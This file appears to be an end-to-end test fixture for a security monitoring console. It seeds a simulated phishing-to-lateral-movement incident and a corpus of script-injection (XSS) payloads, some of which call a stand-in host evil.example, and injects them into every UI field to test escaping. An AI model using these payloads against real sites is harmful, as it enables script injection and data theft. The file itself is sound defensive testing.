/**
 * End-to-end fixtures for the console: a real Garrison server on a temp data dir, a demo scenario
 * seeded through the real APIs (events) and the store in the shapes of src/core (signals,
 * incidents, investigations, actions), a corpus of script-injection payloads, the bulk data of the
 * performance checks, and a Chromium launched through playwright-core.
 *
 * Used by src/surface/server/console.integration.test.ts and bench/console/screens.ts.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium, type BrowserContext } from 'playwright-core';
import type { GarrisonEvent } from '../../src/core/event.js';
import type { Incident, IncidentEntity, IncidentStage, IncidentVerdict } from '../../src/core/incident.js';
import type { Level, Signal } from '../../src/core/signal.js';
import type { StoredRecord } from '../../src/store/port.js';
import { saveToStore } from '../../src/baseline/persist.js';
import { BaselineStage } from '../../src/baseline/stage.js';
import { consoleAuth } from '../../src/surface/server/auth.js';
import { startTestServer, type TestServer } from '../../src/surface/server/test-helpers.js';

export const REPO = fileURLToPath(new URL('../../', import.meta.url));
export const CONSOLE_DIST = join(REPO, 'console', 'dist');
export const PASSWORD = 'e2e password for the console';
export const CHROMIUM = process.env.GARRISON_CHROMIUM ?? '/usr/bin/chromium';

function newest(dir: string): number {
  let t = 0;
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    const st = statSync(p);
    t = Math.max(t, st.isDirectory() ? newest(p) : st.mtimeMs);
  }
  return t;
}

/** Builds console/dist when it is missing or older than console/src. */
export function ensureConsoleBuilt(): void {
  const index = join(CONSOLE_DIST, 'index.html');
  const src = join(REPO, 'console', 'src');
  if (existsSync(index) && statSync(index).mtimeMs >= Math.max(newest(src), statSync(join(REPO, 'console', 'index.html')).mtimeMs)) return;
  execFileSync(join(REPO, 'node_modules', '.bin', 'vite'), ['build', '--config', join(REPO, 'console', 'vite.config.ts'), '--logLevel', 'warn'], { cwd: REPO, stdio: 'inherit' });
}

/** A console test server and the extra Sigma rule directory it was configured with. */
export type ConsoleServer = TestServer & { rulesDir: string };

/**
 * A server with three users (rita responder, vince viewer, ann analyst) and an in-memory
 * connector for every action kind (src/respond memory connector: actions execute and roll back
 * for real in the response stage, with nothing outside the process touched). `rulesDir` (empty)
 * is configured as an extra Sigma rule directory (engine.sigma.rulePaths, and the coverage
 * service's rule paths); files written there before the first detector-status or coverage request
 * are loaded.
 */
export async function startConsoleServer(): Promise<ConsoleServer> {
  if (!process.env.GARRISON_CONNECTORS) {
    const dir = mkdtempSync(join(tmpdir(), 'garrison-connectors-'));
    writeFileSync(join(dir, 'connectors.yaml'), 'connectors:\n  - name: lab\n    type: memory\n');
    process.env.GARRISON_CONNECTORS = join(dir, 'connectors.yaml');
  }
  const rulesDir = mkdtempSync(join(tmpdir(), 'garrison-e2e-rules-'));
  // The engine is off: the scenario is seeded, and the API's responder then comes from GARRISON_CONNECTORS.
  const s = await startTestServer({ store: { fts: 'off' }, engine: { enabled: false, sigma: { rulePaths: [rulesDir] } } });
  const users = consoleAuth(s.ctx).users;
  await users.add('rita', 'responder', PASSWORD);
  await users.add('vince', 'viewer', PASSWORD);
  await users.add('ann', 'analyst', PASSWORD);
  const stop = s.stop.bind(s);
  return Object.assign(s, {
    rulesDir,
    async stop() {
      await stop();
      rmSync(rulesDir, { recursive: true, force: true });
    },
  });
}

export async function launch(): Promise<{ context: BrowserContext; close: () => Promise<void> }> {
  const profile = mkdtempSync(join(tmpdir(), 'garrison-chromium-'));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-dev-shm-usage'],
    viewport: { width: 1400, height: 900 },
  });
  return {
    context,
    close: async () => {
      await context.close();
      rmSync(profile, { recursive: true, force: true });
    },
  };
}

// ------------------------------------------------------------------------------------ payloads

/** Script-injection payloads: tags, handlers, javascript: URLs, SVG, template and CSS injection. */
export const XSS = [
  '<script>window.__xss=1;alert(1)</script>',
  '"><script>alert(document.domain)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src="http://evil.example/x.png" onerror="window.__xss=2">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=fetch("http://evil.example/svg")>',
  'javascript:alert(1)',
  'JaVaScRiPt:window.__xss=3',
  'http://evil.example/phish?<b>bold</b>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe src="http://evil.example/frame"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7*7 %>#{7*7}',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/y.css>',
  '<object data="http://evil.example/o"></object>',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '\u202eexe.txt',
  '</textarea><script>alert(1)</script>',
  '<input autofocus onfocus=alert(1)>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
];
export const xss = (i: number) => XSS[i % XSS.length];

// ------------------------------------------------------------------------------------ scenario

const T0 = Date.UTC(2026, 10, 26, 9, 0, 0);

/** Demo scenario events: phishing → PowerShell → credential dumping → lateral movement → C2. */
function scenarioEvents(withXss: boolean): Record<string, unknown>[] {
  const ev: Record<string, unknown>[] = [];
  const add = (min: number, o: Record<string, unknown>) => ev.push({ '@timestamp': new Date(T0 + min * 60_000).toISOString(), ...o });
  add(0, { hostname: 'ws-017', User: 'CORP\\alice', EventID: 1, Image: 'C:\\Program Files\\Microsoft Office\\OUTLOOK.EXE', CommandLine: 'OUTLOOK.EXE /recycle', url: 'http://invoice-portal.example/inv.docm', message: 'attachment opened' });
  add(2, { hostname: 'ws-017', User: 'CORP\\alice', EventID: 1, Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ParentImage: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', CommandLine: 'powershell -nop -w hidden -enc SQBFAFgA', message: 'powershell download cradle' });
  add(3, { hostname: 'ws-017', User: 'CORP\\alice', EventID: 3, Image: 'powershell.exe', src_ip: '10.1.2.17', dst_ip: '203.0.113.7', dst_port: 443, domain: 'cdn-update.example', message: 'outbound connection' });
  add(9, { hostname: 'ws-017', User: 'CORP\\alice', EventID: 10, Image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\pd.exe', TargetImage: 'C:\\Windows\\System32\\lsass.exe', message: 'lsass access' });
  add(15, { hostname: 'srv-fin-02', User: 'CORP\\alice', EventID: 4624, LogonType: 3, src_ip: '10.1.2.17', message: 'network logon from ws-017' });
  add(16, { hostname: 'srv-fin-02', User: 'CORP\\alice', EventID: 1, Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', CommandLine: 'cmd.exe /c whoami /all', message: 'remote wmi exec' });
  if (withXss)
    XSS.forEach((p, i) =>
      add(20 + i, {
        hostname: `ws-017${i % 3 === 0 ? p : ''}`,
        User: p,
        EventID: 1,
        Image: `C:\\Temp\\${p}.exe`,
        CommandLine: p,
        url: p,
        domain: p,
        message: `payload ${i}: ${p}`,
        [`field_${i}_${p.slice(0, 20)}`]: p,
        nested: { deeper: p, list: [p, { x: p }] },
      }),
    );
  return ev;
}

async function ingest(s: TestServer, events: Record<string, unknown>[]): Promise<void> {
  for (let i = 0; i < events.length; i += 5000) {
    const body = events.slice(i, i + 5000).map((e) => JSON.stringify(e)).join('\n');
    const r = await s.api('POST', '/api/v1/events', body, { 'content-type': 'application/x-ndjson' });
    if (r.status !== 200) throw new Error(`ingest failed: ${r.status} ${JSON.stringify(r.json).slice(0, 500)}`);
  }
}

async function eventsOf(s: TestServer, q: string, limit = 10_000): Promise<GarrisonEvent[]> {
  const r = await s.ctx.store.search(q, { limit, order: 'asc' });
  return r.events;
}

function signal(id: string, o: Partial<Signal> & { title: string; level: Level; time: number; eventIds: string[]; tactic: string; technique: string }): Signal {
  return {
    id,
    tenant: 'default',
    kind: 'sigma',
    detector: o.detector ?? `rule-${id}`,
    title: o.title,
    level: o.level,
    score: o.score ?? 60,
    time: o.time,
    createdAt: o.time + 1000,
    attack: { tactics: [o.tactic], techniques: [o.technique] },
    eventIds: o.eventIds,
    entities: o.entities ?? {},
    details: o.details ?? {},
  };
}

function record<T>(id: string, status: string, ref: string, t: number, doc: T): StoredRecord<T> {
  return { id, tenant: 'default', status, ref, createdAt: t, updatedAt: t, doc };
}

function incidentDoc(o: Partial<Incident> & { id: string; title: string; severity: Level; status: Incident['status'] }): Incident {
  const t = o.updatedAt ?? T0;
  return {
    tenant: 'default',
    summary: '',
    score: 50,
    confidence: 0.7,
    createdAt: t,
    updatedAt: t,
    firstSeen: t - 3600_000,
    lastSeen: t,
    signalIds: [],
    attack: { tactics: [], techniques: [] },
    stages: [],
    entities: [],
    scoring: [],
    mergedFrom: [],
    revision: 1,
    ...o,
  };
}

export interface Seeded {
  demoIncidentId: string;
  demoActionId: string;
  demoEvidenceId: string;
  /** A second pending action (block the C2 address), left pending by the flow. */
  otherActionId: string;
  bulkIncidentId?: string;
  xssIncidentId?: string;
}

/**
 * The demo scenario: events through POST /api/v1/events; signals, the incident, its
 * investigation (ledger + verdict) and a pending containment action (isolate ws-017) in the
 * store, in the shapes of src/core and src/respond.
 */
export async function seedDemo(s: TestServer, opts: { xss?: boolean } = {}): Promise<Seeded> {
  await ingest(s, scenarioEvents(false));
  const evs = await eventsOf(s, '(host:ws-017 OR host:srv-fin-02) AND time<' + (T0 + 19 * 60_000));
  const byMsg = (m: string) => evs.filter((e) => String(e.raw).includes(m)).map((e) => e.id);
  const sig = [
    signal('sig-demo-1', { title: 'Office application spawned PowerShell with an encoded command', level: 'high', time: T0 + 2 * 60_000, eventIds: byMsg('download cradle'), tactic: 'TA0002', technique: 'T1059.001', detector: 'proc_creation_win_office_spawn_powershell', entities: { host: 'ws-017', user: 'alice', process: { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', parent: { image: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE' } } } }),
    signal('sig-demo-2', { title: 'Connection to a domain first seen today', level: 'medium', time: T0 + 3 * 60_000, eventIds: byMsg('outbound connection'), tactic: 'TA0011', technique: 'T1071.001', detector: 'baseline:new_domain', entities: { host: 'ws-017', dstIp: '203.0.113.7', domain: 'cdn-update.example' } }),
    signal('sig-demo-3', { title: 'LSASS memory read by an unsigned process', level: 'critical', time: T0 + 9 * 60_000, eventIds: byMsg('lsass access'), tactic: 'TA0006', technique: 'T1003.001', detector: 'proc_access_win_lsass_memdump', entities: { host: 'ws-017', user: 'alice', process: { image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\pd.exe' } } }),
    signal('sig-demo-4', { title: 'Network logon followed by WMI execution', level: 'high', time: T0 + 16 * 60_000, eventIds: [...byMsg('network logon'), ...byMsg('remote wmi exec')], tactic: 'TA0008', technique: 'T1021', detector: 'lateral_wmi_after_logon', entities: { host: 'srv-fin-02', user: 'alice', srcIp: '10.1.2.17', process: { image: 'C:\\Windows\\System32\\cmd.exe', parent: { image: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' } } } }),
  ];
  await s.ctx.store.appendSignals(sig);
  const ent = (kind: IncidentEntity['kind'], value: string, signalIds: string[], role?: string, display?: string): IncidentEntity => ({ kind, value, display, role, firstSeen: T0, lastSeen: T0 + 16 * 60_000, signalIds });
  const stage = (tactic: string, tacticName: string, s0: Signal[], summary: string): IncidentStage => ({ tactic, tacticName, techniques: s0.flatMap((x) => x.attack.techniques), first: Math.min(...s0.map((x) => x.time)), last: Math.max(...s0.map((x) => x.time)), signalIds: s0.map((x) => x.id), hosts: [...new Set(s0.map((x) => String(x.entities.host)))], users: ['alice'], summary });
  const evidenceEvents = byMsg('download cradle').concat(byMsg('lsass access'));
  const demoEvidenceId = 'ev-demo-process-tree';
  const verdict: IncidentVerdict = {
    verdict: 'malicious',
    confidence: 0.91,
    by: 'garrison',
    decidedAt: T0 + 20 * 60_000,
    summary: 'Phishing document led to PowerShell, credential dumping on ws-017 and lateral movement to srv-fin-02.',
    factors: [
      { factor: 'tactic_progression', weight: 0.35, detail: 'Execution → Credential Access → Lateral Movement within 16 minutes', cites: [demoEvidenceId] },
      { factor: 'lsass_access', weight: 0.3, detail: 'An unsigned binary from %TEMP% read LSASS memory', cites: [demoEvidenceId] },
      { factor: 'new_domain', weight: 0.15, detail: 'cdn-update.example was never contacted before by any host', cites: byMsg('outbound connection') },
      { factor: 'known_admin_host', weight: -0.1, detail: 'srv-fin-02 is administered over WMI by the finance IT team on weekdays' },
    ],
    wouldChange: ['alice confirming she ran the invoice macro on purpose would lower this to suspicious'],
  };
  const inc = incidentDoc({
    id: 'inc-demo-cobalt',
    title: 'Phishing to credential theft and lateral movement: ws-017 → srv-fin-02 (alice)',
    summary: 'A macro document opened by alice started an encoded PowerShell cradle; 7 minutes later an unsigned tool read LSASS, then alice’s account logged on to srv-fin-02 over the network and ran commands through WMI.',
    severity: 'critical',
    status: 'needs_review',
    score: 94,
    confidence: 0.9,
    firstSeen: T0 + 2 * 60_000,
    lastSeen: T0 + 16 * 60_000,
    createdAt: T0 + 3 * 60_000,
    updatedAt: Date.now(),
    signalIds: sig.map((x) => x.id),
    attack: { tactics: ['TA0002', 'TA0011', 'TA0006', 'TA0008'], techniques: ['T1059.001', 'T1071.001', 'T1003.001', 'T1021'] },
    stages: [
      stage('TA0002', 'Execution', [sig[0]], 'PowerShell download cradle started by WINWORD.EXE on ws-017 (alice)'),
      stage('TA0011', 'Command and Control', [sig[1]], 'ws-017 connected to cdn-update.example (203.0.113.7), first seen today'),
      stage('TA0006', 'Credential Access', [sig[2]], 'pd.exe read LSASS memory on ws-017'),
      stage('TA0008', 'Lateral Movement', [sig[3]], 'alice logged on to srv-fin-02 from ws-017 and ran cmd.exe through WMI'),
    ],
    entities: [
      ent('host', 'ws-017', ['sig-demo-1', 'sig-demo-2', 'sig-demo-3'], 'victim'),
      ent('host', 'srv-fin-02', ['sig-demo-4'], 'target'),
      ent('user', 'corp\\alice', ['sig-demo-1', 'sig-demo-3', 'sig-demo-4'], 'victim', 'CORP\\alice'),
      ent('process', 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', ['sig-demo-1'], 'related'),
      ent('process', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ['sig-demo-1', 'sig-demo-2'], 'related'),
      ent('process', 'C:\\Users\\alice\\AppData\\Local\\Temp\\pd.exe', ['sig-demo-3'], 'attacker'),
      ent('process', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', ['sig-demo-4'], 'related'),
      ent('process', 'C:\\Windows\\System32\\cmd.exe', ['sig-demo-4'], 'related'),
      ent('file', 'C:\\Users\\alice\\AppData\\Local\\Temp\\pd.exe', ['sig-demo-3'], 'attacker'),
      ent('ip', '203.0.113.7', ['sig-demo-2'], 'attacker'),
      ent('domain', 'cdn-update.example', ['sig-demo-2'], 'attacker'),
      ent('ip', '10.1.2.17', ['sig-demo-2', 'sig-demo-4'], 'source'),
    ],
    scoring: [{ factor: 'crown_jewel', weight: 20, detail: 'srv-fin-02 holds finance data' }],
    verdict,
    investigationId: 'inv-demo-cobalt',
  });
  const investigation = {
    id: 'inv-demo-cobalt',
    incidentId: inc.id,
    inputHash: 'demo',
    ledger: {
      incidentId: inc.id,
      plan: { name: 'execution-to-lateral', version: 1 },
      window: { from: T0 - 3600_000, to: T0 + 3600_000 },
      steps: [
        { id: 'process_tree', type: 'process_tree', title: 'Process tree around the PowerShell start', status: 'ok', queries: 1, results: evidenceEvents.length, evidence: [{ id: demoEvidenceId, step: 'process_tree', title: 'WINWORD.EXE → powershell.exe -enc, then pd.exe reading LSASS', query: { text: 'host:ws-017 AND EventID:(1 OR 10)', sql: 'SELECT … FROM events WHERE host = ? …', params: ['ws-017'] }, eventIds: evidenceEvents, facts: { kind: 'process_tree', depth: 3 } }] },
        { id: 'logons', type: 'logons', title: 'Logons by alice on other hosts', status: 'ok', queries: 1, results: 1, evidence: [{ id: 'ev-demo-logons', step: 'logons', title: 'Network logon on srv-fin-02 from ws-017', query: { text: 'user:alice AND EventID:4624', sql: 'SELECT …', params: [] }, eventIds: byMsg('network logon'), facts: { kind: 'logons', hosts: ['srv-fin-02'] } }] },
        { id: 'intel', type: 'intel', title: 'Threat intelligence on 203.0.113.7 and cdn-update.example', status: 'empty', queries: 1, results: 0, evidence: [] },
      ],
    },
    verdict: { ...verdict, score: 91 },
    narrative: { source: 'template', summary: verdict.summary, claims: [{ text: 'PowerShell was started by WINWORD.EXE with an encoded command.', cites: [demoEvidenceId] }] },
    cost: { queries: 3, results: evidenceEvents.length + 1, steps: 3 },
  };
  const now = Date.now();
  const demoActionId = 'act_demo_isolate_ws017';
  const action = {
    id: demoActionId,
    tenant: 'default',
    incidentId: inc.id,
    alsoFor: [],
    kind: 'isolate_host',
    target: { type: 'host', host: 'ws-017' },
    key: 'isolate_host:host:ws-017',
    status: 'pending_approval',
    mode: 'approval',
    why: 'ws-017 is the victim of credential dumping with a malicious verdict (0.91)',
    verdict: { verdict: 'malicious', confidence: 0.91, by: 'garrison', decidedAt: verdict.decidedAt },
    evidence: { signalIds: sig.map((x) => x.id), cites: [demoEvidenceId], factors: ['lsass_access'] },
    policy: { name: 'default', version: '1', hash: 'demo', rule: 'isolate-workstations', reason: 'workstation isolation needs one approval' },
    approvalsRequired: 1,
    approvals: [],
    blast: { hosts: 1, users: 1 },
    ttlMs: 4 * 3600_000,
    idempotencyKey: `${demoActionId}:1`,
    attempts: [],
    history: [{ at: now, by: 'policy:isolate-workstations', what: 'proposed', status: 'pending_approval' }],
    createdAt: now,
    updatedAt: now,
  };
  await s.ctx.store.putRecords('incidents', [record(inc.id, inc.status, '', inc.updatedAt, inc)]);
  await s.ctx.store.putRecords('investigations', [record(investigation.id, 'done', inc.id, now, investigation)]);
  const block = { ...action, id: 'act_demo_block_c2', kind: 'block_ip', target: { type: 'ip', cidr: '203.0.113.7/32' }, key: 'block_ip:ip:203.0.113.7/32', why: 'ws-017 talked to 203.0.113.7, first seen today, right after the PowerShell cradle', idempotencyKey: 'act_demo_block_c2:1', blast: { hosts: 0, users: 0, addresses: 1 } };
  await s.ctx.store.putRecords<Record<string, unknown>>('actions', [record(action.id, action.status, inc.id, now, action), record(block.id, block.status, inc.id, now, block)]);
  // The engine's checkpoint as a running engine would have saved it: the baselines learned from the
  // scenario's events (default 7-day learning period: still learning) and the processed position.
  const baselines = new BaselineStage({ models: { auth: { learningMs: 3600_000 } } });
  baselines.observe(evs);
  baselines.observe([{ ...evs[4], id: `${evs[4].id}-later`, time: T0 + 2 * 3600_000 }]);
  await saveToStore(s.ctx.store, baselines);
  await s.ctx.store.setState('engine/position/v1', JSON.stringify({ position: evs.length, watermark: T0 + 2 * 3600_000, at: Date.now() }));
  const seeded: Seeded = { demoIncidentId: inc.id, demoActionId, demoEvidenceId, otherActionId: block.id };
  if (opts.xss) seeded.xssIncidentId = await seedXss(s);
  return seeded;
}

/** The ATT&CK technique of the payload rule (no built-in rule claims it). */
export const XSS_TECHNIQUE = 'T1505.003';

/**
 * Sigma rules carrying the payloads: one that loads (payload title, description, log source; its
 * technique's coverage reason quotes them) and one that is rejected (its problems quote them).
 */
export function writeXssRules(dir: string): void {
  const q = (v: string) => JSON.stringify(v); // a JSON string is a YAML double-quoted scalar
  writeFileSync(
    join(dir, 'xss_webshell.yml'),
    [
      `title: ${q(`Web shell ${xss(0)} ${xss(4)}`)}`,
      'id: 5f0e8a44-2d7b-4c1e-9a53-0c1d2e3f4a5b',
      'status: test',
      `description: ${q(XSS.join(' '))}`,
      'logsource:',
      `  category: ${q(`webserver${xss(2)}`)}`,
      'detection:',
      `  sel: { cs-uri-query|contains: ${q(xss(7))} }`,
      '  condition: sel',
      'level: high',
      'tags: [attack.persistence, attack.t1505.003]',
      '',
    ].join('\n'),
  );
  writeFileSync(
    join(dir, 'xss_broken.yml'),
    [`title: ${q(xss(3))}`, 'logsource: { product: windows }', 'detection:', `  ${q(xss(1))}: { Image: x }`, `  condition: ${q(`${xss(1)} and ${xss(5)}`)}`, ''].join('\n'),
  );
}

/** A Navigator layer (format 4.5) whose every text carries a payload: valid, so it is shown. */
export function xssLayer(): Record<string, unknown> {
  return {
    name: xss(0),
    versions: { attack: '18', navigator: '5.1.0', layer: '4.5' },
    domain: 'enterprise-attack',
    description: XSS.join(' '),
    techniques: [
      { techniqueID: 'T1059', tactic: 'execution', score: 80, color: '#91cf60', comment: xss(2), metadata: XSS.slice(0, 8).map((p) => ({ name: p, value: p })), links: [{ label: xss(10), url: 'javascript:alert(1)' }, { label: 'evil', url: 'http://evil.example/' }] },
      { techniqueID: 'T1078', score: 30, comment: xss(4), enabled: false },
      { techniqueID: XSS_TECHNIQUE, score: 100, comment: XSS.join('\n') },
    ],
    gradient: { colors: ['#ffffff', '#1a9850'], minValue: 0, maxValue: 100 },
    legendItems: XSS.slice(0, 5).map((p) => ({ label: p, color: '#fc8d59' })),
    metadata: [{ name: xss(6), value: xss(11) }],
  };
}

/** Events, signals, an incident, evidence, a closed incident, a saved search and audit entries carrying the payloads. */
export async function seedXss(s: TestServer): Promise<string> {
  if ('rulesDir' in s) writeXssRules((s as ConsoleServer).rulesDir);
  const raw = scenarioEvents(true).slice(6);
  await ingest(s, raw);
  const evs = await eventsOf(s, 'payload', 1000);
  const ids = evs.map((e) => e.id);
  const sigs = XSS.map((p, i) =>
    signal(`sig-xss-${i}`, { title: p, level: 'high', time: T0 + (20 + i) * 60_000, eventIds: ids.slice(i, i + 2), tactic: i % 2 ? 'TA0002' : p, technique: p, detector: p, entities: { host: p, user: p, process: { image: p, parent: { image: p } }, domain: p, url: p } }),
  );
  await s.ctx.store.appendSignals(sigs);
  const ent = (kind: IncidentEntity['kind'], p: string, i: number): IncidentEntity => ({ kind, value: p, display: p, role: p, firstSeen: T0, lastSeen: T0, signalIds: [`sig-xss-${i}`], context: { owner: p } });
  const kinds: IncidentEntity['kind'][] = ['host', 'user', 'process', 'ip', 'domain', 'url', 'file'];
  const verdict: IncidentVerdict = { verdict: 'suspicious', confidence: 0.5, by: xss(0), decidedAt: T0, summary: xss(1), factors: XSS.map((p, i) => ({ factor: p, weight: i % 2 ? 0.2 : -0.1, detail: p, cites: [i % 3 ? 'ev-xss' : p] })), wouldChange: XSS.slice(0, 5) };
  const inc = incidentDoc({
    id: 'inc-xss',
    title: `${xss(0)} ${xss(2)} ${xss(4)}`,
    summary: XSS.join(' '),
    severity: 'critical',
    status: 'needs_review',
    score: 99,
    updatedAt: Date.now() + 1000,
    firstSeen: T0 + 20 * 60_000,
    lastSeen: T0 + 50 * 60_000,
    signalIds: sigs.map((x) => x.id),
    attack: { tactics: ['TA0002', xss(7)], techniques: [xss(3)] },
    stages: XSS.map((p, i) => ({ tactic: i % 2 ? 'TA0002' : p, tacticName: p, techniques: [p], first: T0 + (20 + i) * 60_000, last: T0 + (21 + i) * 60_000, signalIds: [`sig-xss-${i}`], hosts: [p], users: [p], summary: p })),
    entities: XSS.map((p, i) => ent(kinds[i % kinds.length], p, i)),
    verdict,
    closeReason: xss(5),
    investigationId: 'inv-xss',
  });
  const inv = {
    id: 'inv-xss',
    incidentId: inc.id,
    inputHash: 'x',
    ledger: { incidentId: inc.id, plan: { name: xss(1), version: 1 }, window: { from: T0, to: T0 + 3600_000 }, steps: XSS.map((p, i) => ({ id: `s${i}`, type: p, title: p, status: 'ok', note: p, queries: 1, results: 1, evidence: [{ id: i === 0 ? 'ev-xss' : `ev-xss-${i}`, step: `s${i}`, title: p, query: { text: p, sql: p, params: [p] }, eventIds: ids, facts: { kind: p, [p]: p } }] })) },
    verdict: { ...verdict, score: 50 },
    narrative: { source: 'template', summary: XSS.join(' '), claims: XSS.map((p) => ({ text: p, cites: [p] })) },
    cost: { queries: 1, results: 1, steps: 1 },
  };
  const now = Date.now();
  const actions = XSS.slice(0, 6).map((p, i) => ({
    id: `act_xss_${i}`,
    tenant: 'default',
    incidentId: inc.id,
    alsoFor: [],
    kind: 'block_domain',
    target: { type: 'domain', domain: p },
    key: `block_domain:${i}`,
    status: i % 2 ? 'pending_approval' : 'rejected',
    mode: 'approval',
    why: p,
    verdict: { verdict: 'suspicious', confidence: 0.5, by: p, decidedAt: now },
    evidence: { signalIds: [], cites: [p], factors: [p] },
    policy: { name: p, version: p, hash: p, rule: p, reason: p },
    approvalsRequired: 1,
    approvals: [],
    rejection: i % 2 ? undefined : { by: p, at: now, reason: p },
    blast: { hosts: 1, users: 0 },
    ttlMs: 3600_000,
    idempotencyKey: p,
    attempts: [],
    history: [{ at: now, by: p, what: p }],
    createdAt: now,
    updatedAt: now,
  }));
  const closed = incidentDoc({ id: 'inc-xss-closed', title: xss(3), severity: 'low', status: 'closed', closeReason: `benign: ${xss(8)} ${xss(10)}`, verdict: { ...verdict, verdict: 'benign' }, updatedAt: now });
  await s.ctx.store.putRecords('incidents', [record(inc.id, inc.status, '', inc.updatedAt, inc), record(closed.id, 'closed', '', now, closed)]);
  await s.ctx.store.putRecords('investigations', [record(inv.id, 'done', inc.id, now, inv)]);
  await s.ctx.store.putRecords('actions', actions.map((a) => record(a.id, a.status, inc.id, now, a)));
  await s.ctx.store.putRecords('saved_searches', XSS.slice(0, 8).map((p, i) => record(`ss-xss-${i}`, '', '', now, { id: `ss-xss-${i}`, name: p, query: p, description: p, range: '24h', by: p, createdAt: now })));
  for (const p of XSS.slice(0, 10)) await s.ctx.store.appendAudit({ actor: `user:${p}`, action: p, target: p, doc: { note: p, [p]: p } });
  return inc.id;
}

/** 1,000 incidents for the queue, and one incident whose signals cite 5,000 events. */
export async function seedBulk(s: TestServer): Promise<{ bulkIncidentId: string }> {
  const levels: Level[] = ['low', 'medium', 'high', 'critical'];
  const statuses: Incident['status'][] = ['new', 'needs_review', 'contained', 'new'];
  const now = Date.now();
  const recs: StoredRecord<Incident>[] = [];
  for (let i = 0; i < 1000; i++) {
    const host = `ws-${String(i % 180).padStart(3, '0')}`;
    const inc = incidentDoc({
      id: `inc-bulk-${String(i).padStart(4, '0')}`,
      title: `Suspicious activity #${i} on ${host}`,
      severity: levels[i % 4],
      status: statuses[i % 4],
      score: (i * 37) % 100,
      updatedAt: now - i * 60_000,
      attack: { tactics: ['TA0002'], techniques: ['T1059'] },
      entities: [
        { kind: 'host', value: host, firstSeen: now, lastSeen: now, signalIds: [] },
        { kind: 'user', value: `user${i % 50}`, firstSeen: now, lastSeen: now, signalIds: [] },
      ],
      verdict: i % 3 === 0 ? { verdict: 'suspicious', confidence: 0.5, by: 'garrison', decidedAt: now, summary: 'unclear', factors: [], wouldChange: [] } : undefined,
    });
    recs.push(record(inc.id, inc.status, '', inc.updatedAt, inc));
  }
  await s.ctx.store.putRecords('incidents', recs);
  // 5,000 events, 50 signals of 100 events each, one incident.
  const t = T0 - 86400_000;
  const evs = Array.from({ length: 5000 }, (_, i) => ({ '@timestamp': new Date(t + i * 1000).toISOString(), hostname: 'db-01', User: `svc${i % 7}`, EventID: 4663, ObjectName: `D:\\data\\file-${i}.db`, message: `bulk read ${i}` }));
  await ingest(s, evs);
  const stored = await eventsOf(s, 'host:db-01', 10_000);
  if (stored.length < 5000) throw new Error(`expected 5000 bulk events, found ${stored.length}`);
  const sigs: Signal[] = [];
  for (let k = 0; k < 50; k++) sigs.push(signal(`sig-bulk-${k}`, { title: `Mass file read ${k}`, level: 'high', time: stored[k * 100].time, eventIds: stored.slice(k * 100, k * 100 + 100).map((e) => e.id), tactic: k < 25 ? 'TA0009' : 'TA0010', technique: k < 25 ? 'T1005' : 'T1041', entities: { host: 'db-01' } }));
  await s.ctx.store.appendSignals(sigs);
  const bulk = incidentDoc({
    id: 'inc-bulk-5000',
    title: 'Mass collection on db-01 (5,000 events)',
    severity: 'high',
    status: 'needs_review',
    score: 80,
    updatedAt: now + 2000,
    firstSeen: stored[0].time,
    lastSeen: stored[4999].time,
    signalIds: sigs.map((x) => x.id),
    attack: { tactics: ['TA0009', 'TA0010'], techniques: ['T1005', 'T1041'] },
    stages: [
      { tactic: 'TA0009', tacticName: 'Collection', techniques: ['T1005'], first: stored[0].time, last: stored[2499].time, signalIds: sigs.slice(0, 25).map((x) => x.id), hosts: ['db-01'], users: [], summary: 'Reads of 2,500 data files on db-01' },
      { tactic: 'TA0010', tacticName: 'Exfiltration', techniques: ['T1041'], first: stored[2500].time, last: stored[4999].time, signalIds: sigs.slice(25).map((x) => x.id), hosts: ['db-01'], users: [], summary: 'Reads of 2,500 more files followed by uploads' },
    ],
    entities: [{ kind: 'host', value: 'db-01', firstSeen: stored[0].time, lastSeen: stored[4999].time, signalIds: sigs.map((x) => x.id) }],
  });
  await s.ctx.store.putRecords('incidents', [record(bulk.id, bulk.status, '', bulk.updatedAt, bulk)]);
  return { bulkIncidentId: bulk.id };
}
